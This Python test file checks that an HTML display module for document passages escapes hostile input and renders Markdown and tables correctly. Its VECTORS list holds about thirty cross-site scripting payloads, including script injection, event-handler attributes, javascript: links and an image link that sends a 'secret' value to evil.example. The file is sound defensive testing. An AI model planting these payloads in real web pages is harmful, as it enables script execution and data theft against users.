"""Display of passages: drawn as their documents look, escaped, and marked at the quoted words."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chains.display.blocks import Style, blocks
from chains.display.excerpt import excerpt
from chains.display.markup import TAGS, Marker, blocks_html, folded_html, passage_html

MARKDOWN = Style(markdown=True)
PLAIN = Style()
CLUBS = """# Clubs

| Club | Room | Fee |
|------|------|----:|
| Chess | A101 | 5,000 won |
| Rowing | B7 | 20,000 won |

### Rules

Every club has a **president**. See [rules](http://example.org/rules).

1. Pay the fee.
   - Late twice: warning.
"""
VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    '[x](http://evil.example "a" onclick="b")',
    "![x](http://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<http://evil.example>",
    "[x][1]\n\n[1]: http://evil.example",
    "**<b onmouseover=alert(1)>x</b>**",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "| <script>a</script> | b |\n|---|---|\n| <img src=x> | c |",
    '<script>a</script>: <b>x</b>; "><img src=x>: y; c: d\nA: 1; B: 2',
    "# <script>alert(1)</script>",
    "> <style>*{display:none}</style>",
    "- <form action=http://evil.example><input name=q></form>",
    "</div></p><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    '<mark class="target" style="background:url(http://evil.example)">x</mark>',
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></p><img src onerror=alert(1)>",
    "\u202e<object data=http://evil.example>",
    "~~<base href=http://evil.example>~~ _<link rel=stylesheet href=x>_",
    "\\<script\\>alert(1)\\</script\\>",
]


class Reader(HTMLParser):
    """Collects tags, attributes and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.open: list[str] = []
        self.attributes: set[tuple[str, str | None]] = set()
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= set(attrs)
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data


def read(html: str) -> Reader:
    """The HTML, checked to be well-formed, without a tag or attribute outside the fixed ones."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    assert set(reader.tags) <= TAGS
    assert {name for name, _ in reader.attributes} <= {"class", "lang", "scope", "tabindex"}
    return reader


def drawn(text: str, style: Style, *spans: tuple[int, int]) -> str:
    """The HTML of a whole text."""
    return blocks_html(blocks(text, style), Marker(text, spans, style))


def span(text: str, words: str) -> tuple[int, int]:
    """Where a text has these words."""
    return text.index(words), text.index(words) + len(words)


@pytest.mark.parametrize("style", [MARKDOWN, PLAIN, Style(code=True)], ids=["md", "plain", "code"])
@pytest.mark.parametrize("vector", VECTORS)
def test_no_text_becomes_a_tag(vector: str, style: Style) -> None:
    """Hostile text is shown as text, wherever the quoted words begin and end."""
    text = f"Before.\n\n{vector}\n\nAfter."
    for part in excerpt(text, [(12, len(text) - 9)], style):
        read(part)
    html = drawn(text, style, (9, 9 + len(vector) // 2), (9 + len(vector) - 1, len(text)))
    assert "Before." in read(passage_html(html, 'ko" onload="x')).words
    assert "http://evil.example" not in str(read(html).attributes)


@given(st.text(alphabet="<>&\"'`*_[]()!|:;#->~\\\n aA1", max_size=80), st.integers(0, 80))
def test_no_combination_becomes_a_tag(text: str, at: int) -> None:
    """Nor does any combination of the signs of HTML and Markdown."""
    read(drawn(text, MARKDOWN, (at, at + 9)))


@given(st.text(alphabet="ab |:;-\n12", max_size=80), st.integers(0, 80), st.integers(0, 20))
def test_what_is_marked_is_what_was_quoted(text: str, at: int, length: int) -> None:
    """Without markup, the marked characters are those of the span, signs of tables aside."""
    html = drawn(text, PLAIN, (at, at + length))
    marked = "".join(re.findall(r"<mark>(.*?)</mark>", html, re.S))
    assert set(marked) <= set(text[at : at + length])


def test_markdown_is_drawn() -> None:
    """Headings, tables, lists and bold type; a link is its words."""
    html = drawn(CLUBS, MARKDOWN)
    assert "<h3>Clubs</h3>" in html and "<h5>Rules</h5>" in html
    assert '<th scope="col">Room</th>' in html and "<td>A101</td>" in html
    assert "<strong>president</strong>. See rules." in html
    assert '<li class="level-1"><span class="bullet">•</span>' in html
    assert not set("#|*") & set(read(html).words)


def test_the_quoted_row_is_the_marked_row() -> None:
    """Of a Markdown table only the quoted row is marked, cell by cell, without its bars."""
    html = drawn(CLUBS, MARKDOWN, span(CLUBS, "| Rowing | B7 | 20,000 won |"))
    assert html.count('<tr class="quoted">') == 1
    assert re.findall(r"<mark>(.*?)</mark>", html) == ["Rowing", "B7", "20,000 won"]


@pytest.mark.parametrize(
    ("text", "row", "cells"),
    [
        (
            "동 | 방 | 비용\n가 | 4인실 | 764,000원\n나 | 2인실 | 1,086,000원",
            "나 | 2인실 | 1,086,000원",
            3,
        ),
        (
            "장비 | 교육 | 비고\n장비: 가; 교육: 8시간; 비고: 예약\n장비: 나; 비고: 없음",
            "장비: 나; 비고: 없음",
            2,
        ),
        ("Code: A1; Title: Art; Note: none\nCode: B2; Title: Law", "Code: B2; Title: Law", 2),
    ],
    ids=["bars", "named", "named without header"],
)
def test_tables_of_other_formats_are_drawn(text: str, row: str, cells: int) -> None:
    """Rows between bars, and rows that name their columns, are a table with one header."""
    html = drawn(text, PLAIN, span(text, row))
    assert html.count("<table>") == 1 and html.count('<th scope="col">') == 3
    assert html.count('<tr class="quoted">') == 1 and html.count("<mark>") == cells
    assert ": " not in html.partition("<tbody>")[2]


def test_a_row_is_quoted_by_its_cells_alone() -> None:
    """A mark on the label of a cell, which its row does not show, quotes nothing of the row."""
    text = "Code: A1; Title: Art; Note: none\nCode: B2; Title: Law; Note: new"
    label, cell = text.rfind("Title"), span(text, "Law")
    html = drawn(text, PLAIN, (label, label + 5))
    assert "quoted" not in html.partition("<tbody>")[2]
    assert drawn(text, PLAIN, cell).count('<tr class="quoted">') == 1


def test_a_cell_may_hold_a_semicolon() -> None:
    """A part without a label belongs to the cell before it."""
    assert "<td>예약; 방문</td>" in drawn("가: 1; 나: 예약; 방문; 다: 3\n가: 2; 나: 없음", PLAIN)


def test_a_line_with_a_bar_or_a_colon_is_no_table() -> None:
    """One line of two parts is a sentence."""
    for line in ("Open: 9 to 6; closed: Sunday", "this | that"):
        assert "<table>" not in drawn(line, PLAIN)


def test_headings_of_other_formats_are_known_by_their_title() -> None:
    """A line that equals a heading of the document is drawn as one."""
    style = Style.of("rules.docx", ["Rules > 2. Fees"])
    assert drawn("2. Fees\n\n3. Pay.", style).startswith("<h5>2. Fees</h5><ul")


def test_code_is_shown_as_written() -> None:
    """Indentation and signs of a program stay."""
    text = "def f():\n    return a ** b  # *x*\n"
    assert read(drawn(text, Style.of("a.py"))).words == text


def test_an_excerpt_shows_the_quoted_row_with_its_neighbours() -> None:
    """Of a long table, two rows around it and the header; the others can be unfolded."""
    rows = [f"Club {n} | Room {n} | {n},000 won" for n in range(40)]
    text = "\n".join(["Club | Room | Fee", *rows])
    before, main, after = excerpt(text, [span(text, rows[20])], PLAIN)
    assert re.findall(r"<td>Club (\d+)<", main) + re.findall(r"<mark>Club (\d+)", main) == [
        "18",
        "19",
        "21",
        "22",
        "20",
    ]
    assert all(part.count('<th scope="col">Fee</th>') == 1 for part in (before, main, after))
    assert "Club 0<" in before and "Club 39<" in after


def test_an_excerpt_loses_nothing() -> None:
    """Its parts have all words of the passage, in order."""
    text = "One.\n\n" + "Two. " * 200 + "\n\nThree.\n\nFour."
    parts = excerpt(text, [span(text, "Three.")], PLAIN)
    words = "".join(read(part).words for part in parts)
    assert "".join(words.split()) == "".join(text.split())
    assert "<mark>Three.</mark>" in parts.main


def test_an_empty_part_is_not_folded() -> None:
    """There is nothing to unfold where the passage begins with the quotation."""
    assert folded_html("Before", "") == ""
    assert "<summary>a &lt;b&gt;</summary>" in folded_html("a <b>", "<p>x</p>")
